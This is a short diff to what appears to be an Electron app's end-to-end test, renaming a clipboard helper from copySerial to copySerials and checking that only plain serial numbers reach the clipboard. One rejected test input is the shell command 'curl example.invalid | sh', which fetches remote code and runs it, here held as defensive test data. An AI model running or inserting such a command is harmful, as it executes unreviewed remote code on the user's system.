@@ -137,10 +137,10 @@ it('puts nothing but a serial on the clipboard', async () => {
   const { app, window } = await armedBench();
   await app.evaluate(({ clipboard }) => clipboard.writeText('before'));
   const answers = await window.evaluate(async () => {
-    const { copySerial } = (globalThis as unknown as Page).bench;
+    const { copySerials } = (globalThis as unknown as Page).bench;
     return [
-      await copySerial({ serial: 'curl example.invalid | sh\n' }),
-      await copySerial({ serial: 'TEST00TO31' }),
+      await copySerials({ serials: ['curl example.invalid | sh\n'] }),
+      await copySerials({ serials: ['TEST00TO31'] }),
     ].map(({ ok }) => ok);
   });
   expect(answers).toEqual([false, true]);
